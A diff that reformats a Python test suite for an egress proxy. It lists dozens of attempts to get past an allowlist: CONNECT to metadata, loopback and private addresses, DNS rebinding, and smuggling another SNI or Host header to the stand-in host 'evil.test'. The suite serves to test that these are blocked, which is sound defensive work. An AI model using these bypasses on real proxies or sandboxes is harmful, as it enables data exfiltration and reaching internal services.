@@ -27,7 +27,11 @@ def plain(authority, host=None, use=wire.fetch):
 
     def make(token):
         stream = wire.tunnel(authority.format(token=token))
-        return use(stream, token) if use is not wire.fetch else use(stream, token, host_of(host or authority, token))
+        return (
+            use(stream, token)
+            if use is not wire.fetch
+            else use(stream, token, host_of(host or authority, token))
+        )
 
     return make
 
@@ -45,7 +49,9 @@ def secure(authority, name):
     """A tunnel, and TLS in it that asks for a name."""
 
     def make(token):
-        stream = wire.secured(wire.tunnel(authority.format(token=token)), name and name.format(token=token))
+        stream = wire.secured(
+            wire.tunnel(authority.format(token=token)), name and name.format(token=token)
+        )
         return wire.fetch(stream, "x", host_of(name or authority, token))
 
     return make
@@ -85,7 +91,11 @@ def in_pieces(token):
     stream.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
     message = hello(f"{token}.evil.test")
     at = message.index(token.encode())
-    for piece in [message[:at], *(message[at + index : at + index + 1] for index in range(10)), message[at + 10 :]]:
+    for piece in [
+        message[:at],
+        *(message[at + index : at + index + 1] for index in range(10)),
+        message[at + 10 :],
+    ]:
         stream.sendall(piece)
     return answered(records(stream))
 
@@ -134,7 +144,10 @@ def after_a_retry(waits):
     def make(token):
         stream = wire.tunnel("good.test:443")
         told = records(stream)
-        first, second = without_key(hello("good.test")), CHANGE_CIPHER_SPEC + hello(f"{token}.evil.test")
+        first, second = (
+            without_key(hello("good.test")),
+            CHANGE_CIPHER_SPEC + hello(f"{token}.evil.test"),
+        )
         stream.sendall(first if waits else first + second)
         assert next(told) == 22, "the server asks for another hello"
         if waits:
@@ -184,7 +197,9 @@ def behind_old_request(target, token):
 def first_words(token):
     """The name of a host to which the same tunnel led before: TLS to one, and then to another."""
     stream = wire.tunnel("good.test:80")
-    return wire.verdict(sent(stream, "GET /x HTTP/1.1\r\nHost: good.test\r\n\r\n", f"{token}.evil.test"))
+    return wire.verdict(
+        sent(stream, "GET /x HTTP/1.1\r\nHost: good.test\r\n\r\n", f"{token}.evil.test")
+    )
 
 
 def sent(stream, first, host):
@@ -230,7 +245,9 @@ def before_the_answer(token):
     """Words for a host, sent along with the request for a tunnel to it."""
     host = f"{token}.evil.test"
     stream = wire.to_proxy()
-    stream.sendall(f"CONNECT {host}:80 HTTP/1.1\r\nHost: proxy\r\n\r\nGET /x HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
+    stream.sendall(
+        f"CONNECT {host}:80 HTTP/1.1\r\nHost: proxy\r\n\r\nGET /x HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
+    )
     head, rest = wire.head_of(stream)
     said, _ = wire.summary(head)
     return wire.verdict(wire.answers(wire.Ahead(stream, rest), 1)) if said == "200" else said
@@ -248,124 +265,431 @@ def named(answer):
 
 
 ATTEMPTS = [
-    Attempt("connect-unlisted", "CONNECT to a name that no rule lists", plain("{token}.evil.test:80"), UNLISTED,
-            ruled=True),
-    Attempt("connect-unlisted-tls", "CONNECT to such a name, for TLS",
-            secure("{token}.evil.test:443", "{token}.evil.test"), UNLISTED, ruled=True),
-    Attempt("connect-address", "CONNECT to an address", plain(f"{addresses.EVIL}:80"), UNLISTED, ruled=True),
-    Attempt("connect-address-of-allowed", "CONNECT to the address of an allowed name", plain(f"{addresses.GOOD}:80"),
-            UNLISTED, ruled=True),
-    Attempt("connect-address-ipv6", "CONNECT to an IPv6 address", plain(f"[{addresses.EVIL6}]:80"), UNLISTED,
-            ruled=True, needs="ipv6"),
-    Attempt("connect-mapped", "CONNECT to an IPv4 address in the clothes of IPv6",
-            plain(f"[::ffff:{addresses.EVIL}]:80"), UNLISTED, ruled=True, needs="ipv6"),
-    Attempt("connect-ssh", "CONNECT to port 22 of an allowed host", talking("good.test:22"), UNLISTED, ruled=True),
-    Attempt("connect-smtp", "CONNECT to port 25 of an allowed host", talking("good.test:25"), UNLISTED, ruled=True),
-    Attempt("connect-ftp", "CONNECT to port 21 of an allowed host", talking("good.test:21"), UNLISTED, ruled=True),
-    Attempt("connect-port", "CONNECT to another port of an allowed host", plain("good.test:8080"), UNLISTED,
-            ruled=True),
-    Attempt("connect-dns", "CONNECT to a name server", plain(f"{addresses.RESOLVER}:443", use=ask_over_https),
-            UNLISTED, ruled=True),
-    Attempt("connect-private", "CONNECT to a private address", plain(f"{addresses.PRIVATE[0]}:80"), "403 internal",
-            ruled=True),
-    Attempt("connect-carrier", "CONNECT to a carrier's shared address", plain(f"{addresses.PRIVATE[3]}:80"),
-            "403 internal", ruled=True),
-    Attempt("connect-unique-local", "CONNECT to a unique local address", plain(f"[{addresses.UNIQUE_LOCAL}]:80"),
-            "403 internal", ruled=True, needs="ipv6"),
-    Attempt("connect-metadata", "CONNECT to the metadata service", plain(f"{addresses.METADATA}:80"), "403 internal",
-            ruled=True),
-    Attempt("connect-metadata-ipv6", "CONNECT to the metadata service's IPv6 address",
-            plain(f"[{addresses.METADATA6}]:80"), "403 internal", ruled=True, needs="ipv6"),
-    Attempt("connect-gateway", "CONNECT to the host at its own address", plain(f"{addresses.HOST}:80"), UNLISTED,
-            ruled=True),
-    Attempt("connect-loopback", "CONNECT to the host's loopback address", plain("127.0.0.1:80"), "403 internal",
-            ruled=True),
-    Attempt("connect-loopback-ipv6", "CONNECT to the host's IPv6 loopback address", plain("[::1]:80"), "403 internal",
-            ruled=True, needs="ipv6"),
-    Attempt("connect-localhost", "CONNECT to the host by the name localhost", plain("localhost:80"),
-            "403 (internal|unlisted)"),
-    Attempt("connect-unspecified", "CONNECT to no address, which is the host's own", plain("0.0.0.0:80"),
-            "403 internal"),
-    Attempt("connect-unspecified-ipv6", "CONNECT to no IPv6 address", plain("[::]:80"), "403 internal", needs="ipv6"),
-    Attempt("connect-proxy", "CONNECT to the proxy itself, and from there on", second_connect, "403 internal"),
-
-    Attempt("named-private", "CONNECT to an allowed name that has a private address", plain(named("a-10-9-8-7")),
-            "403 internal", NOT_INSIDE, ruled=True),
-    Attempt("named-metadata", "CONNECT to an allowed name that has the metadata service's address",
-            plain(named("a-169-254-169-254")), "403 internal", NOT_INSIDE, ruled=True),
-    Attempt("named-metadata-ipv6", "CONNECT to an allowed name that has its IPv6 address",
-            plain(named("aaaa-fd00-ec2--254")), "403 internal", NOT_INSIDE, ruled=True, needs="ipv6"),
-    Attempt("named-unique-local", "CONNECT to an allowed name that has a unique local address",
-            plain(named("aaaa-fd12-3456--7")), "403 internal", NOT_INSIDE, ruled=True, needs="ipv6"),
-    Attempt("named-loopback", "CONNECT to an allowed name that has the host's loopback address",
-            plain(named("a-127-0-0-1")), "403 internal", NOT_INSIDE, ruled=True),
-    Attempt("named-mapped", "CONNECT to an allowed name whose IPv6 address is a private one of IPv4",
-            plain(named("aaaa---ffff-a09-807")), "403 internal", NOT_INSIDE, needs="ipv6"),
-    Attempt("named-unspecified", "CONNECT to an allowed name that has no address of anybody's",
-            plain(named("a-0-0-0-0")), "403 internal", NOT_INSIDE),
-    Attempt("named-in-hosts", "CONNECT to an allowed name that is private in the host's own list",
-            plain("intranet.named.test:80"), "403 internal", NOT_INSIDE, ruled=True),
-    Attempt("named-alias", "CONNECT to an allowed name that is another's alias, which is private",
-            plain("{token}.a-10-9-8-7.alias.test:80"), "403 internal", NOT_INSIDE, ruled=True),
-    Attempt("named-barred", "CONNECT to an allowed name that has a denied address", plain(named("a-11-22-33-77")),
-            "403 listed", NOT_INSIDE, ruled=True),
-    Attempt("named-fallback", "CONNECT to a name whose public address is unreachable and whose other is private",
-            plain("{token}.a-11-22-33-99.a-10-9-8-7.named.test:80"), "502", NOT_INSIDE, ruled=True),
-    Attempt("named-fallback-ipv6", "CONNECT to a name whose public address is unreachable, with a unique local one",
-            plain("{token}.a-11-22-33-99.aaaa-fd12-3456--7.named.test:80"), "502", NOT_INSIDE, ruled=True,
-            needs="ipv6"),
-    Attempt("rebinding", "CONNECT to a name that is public at first and private later", rebound, "403 internal",
-            NOT_INSIDE, ruled=True),
-
-    Attempt("sni-other", "ask for another host in the TLS of a tunnel", secure("good.test:443", "{token}.evil.test"),
-            ALERT),
+    Attempt(
+        "connect-unlisted",
+        "CONNECT to a name that no rule lists",
+        plain("{token}.evil.test:80"),
+        UNLISTED,
+        ruled=True,
+    ),
+    Attempt(
+        "connect-unlisted-tls",
+        "CONNECT to such a name, for TLS",
+        secure("{token}.evil.test:443", "{token}.evil.test"),
+        UNLISTED,
+        ruled=True,
+    ),
+    Attempt(
+        "connect-address",
+        "CONNECT to an address",
+        plain(f"{addresses.EVIL}:80"),
+        UNLISTED,
+        ruled=True,
+    ),
+    Attempt(
+        "connect-address-of-allowed",
+        "CONNECT to the address of an allowed name",
+        plain(f"{addresses.GOOD}:80"),
+        UNLISTED,
+        ruled=True,
+    ),
+    Attempt(
+        "connect-address-ipv6",
+        "CONNECT to an IPv6 address",
+        plain(f"[{addresses.EVIL6}]:80"),
+        UNLISTED,
+        ruled=True,
+        needs="ipv6",
+    ),
+    Attempt(
+        "connect-mapped",
+        "CONNECT to an IPv4 address in the clothes of IPv6",
+        plain(f"[::ffff:{addresses.EVIL}]:80"),
+        UNLISTED,
+        ruled=True,
+        needs="ipv6",
+    ),
+    Attempt(
+        "connect-ssh",
+        "CONNECT to port 22 of an allowed host",
+        talking("good.test:22"),
+        UNLISTED,
+        ruled=True,
+    ),
+    Attempt(
+        "connect-smtp",
+        "CONNECT to port 25 of an allowed host",
+        talking("good.test:25"),
+        UNLISTED,
+        ruled=True,
+    ),
+    Attempt(
+        "connect-ftp",
+        "CONNECT to port 21 of an allowed host",
+        talking("good.test:21"),
+        UNLISTED,
+        ruled=True,
+    ),
+    Attempt(
+        "connect-port",
+        "CONNECT to another port of an allowed host",
+        plain("good.test:8080"),
+        UNLISTED,
+        ruled=True,
+    ),
+    Attempt(
+        "connect-dns",
+        "CONNECT to a name server",
+        plain(f"{addresses.RESOLVER}:443", use=ask_over_https),
+        UNLISTED,
+        ruled=True,
+    ),
+    Attempt(
+        "connect-private",
+        "CONNECT to a private address",
+        plain(f"{addresses.PRIVATE[0]}:80"),
+        "403 internal",
+        ruled=True,
+    ),
+    Attempt(
+        "connect-carrier",
+        "CONNECT to a carrier's shared address",
+        plain(f"{addresses.PRIVATE[3]}:80"),
+        "403 internal",
+        ruled=True,
+    ),
+    Attempt(
+        "connect-unique-local",
+        "CONNECT to a unique local address",
+        plain(f"[{addresses.UNIQUE_LOCAL}]:80"),
+        "403 internal",
+        ruled=True,
+        needs="ipv6",
+    ),
+    Attempt(
+        "connect-metadata",
+        "CONNECT to the metadata service",
+        plain(f"{addresses.METADATA}:80"),
+        "403 internal",
+        ruled=True,
+    ),
+    Attempt(
+        "connect-metadata-ipv6",
+        "CONNECT to the metadata service's IPv6 address",
+        plain(f"[{addresses.METADATA6}]:80"),
+        "403 internal",
+        ruled=True,
+        needs="ipv6",
+    ),
+    Attempt(
+        "connect-gateway",
+        "CONNECT to the host at its own address",
+        plain(f"{addresses.HOST}:80"),
+        UNLISTED,
+        ruled=True,
+    ),
+    Attempt(
+        "connect-loopback",
+        "CONNECT to the host's loopback address",
+        plain("127.0.0.1:80"),
+        "403 internal",
+        ruled=True,
+    ),
+    Attempt(
+        "connect-loopback-ipv6",
+        "CONNECT to the host's IPv6 loopback address",
+        plain("[::1]:80"),
+        "403 internal",
+        ruled=True,
+        needs="ipv6",
+    ),
+    Attempt(
+        "connect-localhost",
+        "CONNECT to the host by the name localhost",
+        plain("localhost:80"),
+        "403 (internal|unlisted)",
+    ),
+    Attempt(
+        "connect-unspecified",
+        "CONNECT to no address, which is the host's own",
+        plain("0.0.0.0:80"),
+        "403 internal",
+    ),
+    Attempt(
+        "connect-unspecified-ipv6",
+        "CONNECT to no IPv6 address",
+        plain("[::]:80"),
+        "403 internal",
+        needs="ipv6",
+    ),
+    Attempt(
+        "connect-proxy",
+        "CONNECT to the proxy itself, and from there on",
+        second_connect,
+        "403 internal",
+    ),
+    Attempt(
+        "named-private",
+        "CONNECT to an allowed name that has a private address",
+        plain(named("a-10-9-8-7")),
+        "403 internal",
+        NOT_INSIDE,
+        ruled=True,
+    ),
+    Attempt(
+        "named-metadata",
+        "CONNECT to an allowed name that has the metadata service's address",
+        plain(named("a-169-254-169-254")),
+        "403 internal",
+        NOT_INSIDE,
+        ruled=True,
+    ),
+    Attempt(
+        "named-metadata-ipv6",
+        "CONNECT to an allowed name that has its IPv6 address",
+        plain(named("aaaa-fd00-ec2--254")),
+        "403 internal",
+        NOT_INSIDE,
+        ruled=True,
+        needs="ipv6",
+    ),
+    Attempt(
+        "named-unique-local",
+        "CONNECT to an allowed name that has a unique local address",
+        plain(named("aaaa-fd12-3456--7")),
+        "403 internal",
+        NOT_INSIDE,
+        ruled=True,
+        needs="ipv6",
+    ),
+    Attempt(
+        "named-loopback",
+        "CONNECT to an allowed name that has the host's loopback address",
+        plain(named("a-127-0-0-1")),
+        "403 internal",
+        NOT_INSIDE,
+        ruled=True,
+    ),
+    Attempt(
+        "named-mapped",
+        "CONNECT to an allowed name whose IPv6 address is a private one of IPv4",
+        plain(named("aaaa---ffff-a09-807")),
+        "403 internal",
+        NOT_INSIDE,
+        needs="ipv6",
+    ),
+    Attempt(
+        "named-unspecified",
+        "CONNECT to an allowed name that has no address of anybody's",
+        plain(named("a-0-0-0-0")),
+        "403 internal",
+        NOT_INSIDE,
+    ),
+    Attempt(
+        "named-in-hosts",
+        "CONNECT to an allowed name that is private in the host's own list",
+        plain("intranet.named.test:80"),
+        "403 internal",
+        NOT_INSIDE,
+        ruled=True,
+    ),
+    Attempt(
+        "named-alias",
+        "CONNECT to an allowed name that is another's alias, which is private",
+        plain("{token}.a-10-9-8-7.alias.test:80"),
+        "403 internal",
+        NOT_INSIDE,
+        ruled=True,
+    ),
+    Attempt(
+        "named-barred",
+        "CONNECT to an allowed name that has a denied address",
+        plain(named("a-11-22-33-77")),
+        "403 listed",
+        NOT_INSIDE,
+        ruled=True,
+    ),
+    Attempt(
+        "named-fallback",
+        "CONNECT to a name whose public address is unreachable and whose other is private",
+        plain("{token}.a-11-22-33-99.a-10-9-8-7.named.test:80"),
+        "502",
+        NOT_INSIDE,
+        ruled=True,
+    ),
+    Attempt(
+        "named-fallback-ipv6",
+        "CONNECT to a name whose public address is unreachable, with a unique local one",
+        plain("{token}.a-11-22-33-99.aaaa-fd12-3456--7.named.test:80"),
+        "502",
+        NOT_INSIDE,
+        ruled=True,
+        needs="ipv6",
+    ),
+    Attempt(
+        "rebinding",
+        "CONNECT to a name that is public at first and private later",
+        rebound,
+        "403 internal",
+        NOT_INSIDE,
+        ruled=True,
+    ),
+    Attempt(
+        "sni-other",
+        "ask for another host in the TLS of a tunnel",
+        secure("good.test:443", "{token}.evil.test"),
+        ALERT,
+    ),
     Attempt("sni-in-pieces", "ask for another host, a byte at a time", in_pieces, ALERT),
     Attempt("sni-in-records", "ask for another host, in two records", in_records, ALERT),
-    Attempt("sni-after-alert", "ask for another host in a hello that follows a warning alert", behind(WARNING), ALERT),
-    Attempt("sni-after-alerts", "ask for another host in a hello that follows four warning alerts",
-            behind(WARNING * 4), ALERT),
-    Attempt("sni-after-empty-record", "ask for another host in a hello that follows an empty record", behind(EMPTY),
-            ALERT),
-    Attempt("sni-after-retry", "ask for another host in the second hello of a TLS handshake",
-            after_a_retry(waits=True), ALERT),
-    Attempt("sni-after-retry-early", "ask for another host in a second hello that is sent with the first",
-            after_a_retry(waits=False), ALERT),
-    Attempt("sni-after-starttls", "ask for another host in a hello after STARTTLS", after_starttls(), STARTTLS_ENDS),
-    Attempt("sni-after-starttls-empty-record", "ask for another host after STARTTLS and an empty record",
-            after_starttls(EMPTY), STARTTLS_ENDS),
-    Attempt("sni-with-starttls", "ask for another host in a hello that is sent with STARTTLS",
-            after_starttls(waits=False), STARTTLS_ENDS),
-    Attempt("sni-none", "ask for no host in the TLS of a tunnel", secure("{token}.wild.test:443", None), ALERT,
-            "good evil"),
-    Attempt("host-in-tunnel", "ask for another host in a plain request in a tunnel",
-            plain("good.test:80", "{token}.evil.test"), OTHER_NAME),
-    Attempt("host-in-tunnel-later", "ask for another host in a tunnel's second request", first_words,
-            f"200, {OTHER_NAME}"),
-    Attempt("host-in-long-line", "ask for another host in a tunnel, behind a first line of 9 KiB",
-            opened_by("GET /" + "x" * 9216), OTHER_NAME),
-    Attempt("host-after-blank-line", "ask for another host in a tunnel that begins with a blank line",
-            opened_by("\r\nGET /"), OTHER_NAME),
-    Attempt("host-after-space", "ask for another host in a tunnel that begins with a space", opened_by(" GET /"),
-            "400 malformed"),
-    Attempt("host-after-control", "ask for another host in a tunnel that begins with a control byte",
-            opened_by("\x0bGET /"), "400 malformed"),
-    Attempt("host-after-nul", "ask for another host in a tunnel that begins with a NUL", opened_by("\0GET /"),
-            "400 malformed"),
-    Attempt("host-after-sign", "ask for another host in a tunnel, with a method that begins with a sign",
-            opened_by("@GET /"), "400 malformed"),
-    Attempt("host-after-old-request", "ask for another host in a tunnel, behind a request without a version",
-            lambda token: behind_old_request("x", token), "400 malformed"),
-    Attempt("host-lower-case", "ask for another host in a tunnel, with a method in lower case", opened_by("get /"),
-            OTHER_NAME),
-    Attempt("http2-in-tunnel", "ask for another host in HTTP/2 in a tunnel", http2, "400 malformed"),
-    Attempt("dns-over-allowed", "ask for a name in the TLS of a tunnel to a host that is no name server",
-            lambda token: wire.fetch(wire.secured(wire.tunnel("good.test:443"), f"{token}.dns.test"), "dns-query"),
-            ALERT),
-    Attempt("connect-after-refusal", "ask again on a connection that was refused", after_a_refusal, UNLISTED,
-            ruled=True),
-    Attempt("connect-early-words", "say something before a tunnel is there", before_the_answer, UNLISTED, ruled=True),
-    Attempt("connect-body", "CONNECT with a body",
-            lambda token: wire.exchange(f"CONNECT good.test:80 HTTP/1.1\r\nHost: proxy\r\nContent-Length: 30\r\n\r\n"
-                                        f"GET /{token} HTTP/1.1\r\nHost: good.test\r\n\r\n", 2),
-                                            "400 malformed, closed"),
+    Attempt(
+        "sni-after-alert",
+        "ask for another host in a hello that follows a warning alert",
+        behind(WARNING),
+        ALERT,
+    ),
+    Attempt(
+        "sni-after-alerts",
+        "ask for another host in a hello that follows four warning alerts",
+        behind(WARNING * 4),
+        ALERT,
+    ),
+    Attempt(
+        "sni-after-empty-record",
+        "ask for another host in a hello that follows an empty record",
+        behind(EMPTY),
+        ALERT,
+    ),
+    Attempt(
+        "sni-after-retry",
+        "ask for another host in the second hello of a TLS handshake",
+        after_a_retry(waits=True),
+        ALERT,
+    ),
+    Attempt(
+        "sni-after-retry-early",
+        "ask for another host in a second hello that is sent with the first",
+        after_a_retry(waits=False),
+        ALERT,
+    ),
+    Attempt(
+        "sni-after-starttls",
+        "ask for another host in a hello after STARTTLS",
+        after_starttls(),
+        STARTTLS_ENDS,
+    ),
+    Attempt(
+        "sni-after-starttls-empty-record",
+        "ask for another host after STARTTLS and an empty record",
+        after_starttls(EMPTY),
+        STARTTLS_ENDS,
+    ),
+    Attempt(
+        "sni-with-starttls",
+        "ask for another host in a hello that is sent with STARTTLS",
+        after_starttls(waits=False),
+        STARTTLS_ENDS,
+    ),
+    Attempt(
+        "sni-none",
+        "ask for no host in the TLS of a tunnel",
+        secure("{token}.wild.test:443", None),
+        ALERT,
+        "good evil",
+    ),
+    Attempt(
+        "host-in-tunnel",
+        "ask for another host in a plain request in a tunnel",
+        plain("good.test:80", "{token}.evil.test"),
+        OTHER_NAME,
+    ),
+    Attempt(
+        "host-in-tunnel-later",
+        "ask for another host in a tunnel's second request",
+        first_words,
+        f"200, {OTHER_NAME}",
+    ),
+    Attempt(
+        "host-in-long-line",
+        "ask for another host in a tunnel, behind a first line of 9 KiB",
+        opened_by("GET /" + "x" * 9216),
+        OTHER_NAME,
+    ),
+    Attempt(
+        "host-after-blank-line",
+        "ask for another host in a tunnel that begins with a blank line",
+        opened_by("\r\nGET /"),
+        OTHER_NAME,
+    ),
+    Attempt(
+        "host-after-space",
+        "ask for another host in a tunnel that begins with a space",
+        opened_by(" GET /"),
+        "400 malformed",
+    ),
+    Attempt(
+        "host-after-control",
+        "ask for another host in a tunnel that begins with a control byte",
+        opened_by("\x0bGET /"),
+        "400 malformed",
+    ),
+    Attempt(
+        "host-after-nul",
+        "ask for another host in a tunnel that begins with a NUL",
+        opened_by("\0GET /"),
+        "400 malformed",
+    ),
+    Attempt(
+        "host-after-sign",
+        "ask for another host in a tunnel, with a method that begins with a sign",
+        opened_by("@GET /"),
+        "400 malformed",
+    ),
+    Attempt(
+        "host-after-old-request",
+        "ask for another host in a tunnel, behind a request without a version",
+        lambda token: behind_old_request("x", token),
+        "400 malformed",
+    ),
+    Attempt(
+        "host-lower-case",
+        "ask for another host in a tunnel, with a method in lower case",
+        opened_by("get /"),
+        OTHER_NAME,
+    ),
+    Attempt(
+        "http2-in-tunnel", "ask for another host in HTTP/2 in a tunnel", http2, "400 malformed"
+    ),
+    Attempt(
+        "dns-over-allowed",
+        "ask for a name in the TLS of a tunnel to a host that is no name server",
+        lambda token: wire.fetch(
+            wire.secured(wire.tunnel("good.test:443"), f"{token}.dns.test"), "dns-query"
+        ),
+        ALERT,
+    ),
+    Attempt(
+        "connect-after-refusal",
+        "ask again on a connection that was refused",
+        after_a_refusal,
+        UNLISTED,
+        ruled=True,
+    ),
+    Attempt(
+        "connect-early-words",
+        "say something before a tunnel is there",
+        before_the_answer,
+        UNLISTED,
+        ruled=True,
+    ),
+    Attempt(
+        "connect-body",
+        "CONNECT with a body",
+        lambda token: wire.exchange(
+            f"CONNECT good.test:80 HTTP/1.1\r\nHost: proxy\r\nContent-Length: 30\r\n\r\n"
+            f"GET /{token} HTTP/1.1\r\nHost: good.test\r\n\r\n",
+            2,
+        ),
+        "400 malformed, closed",
+    ),
 ]
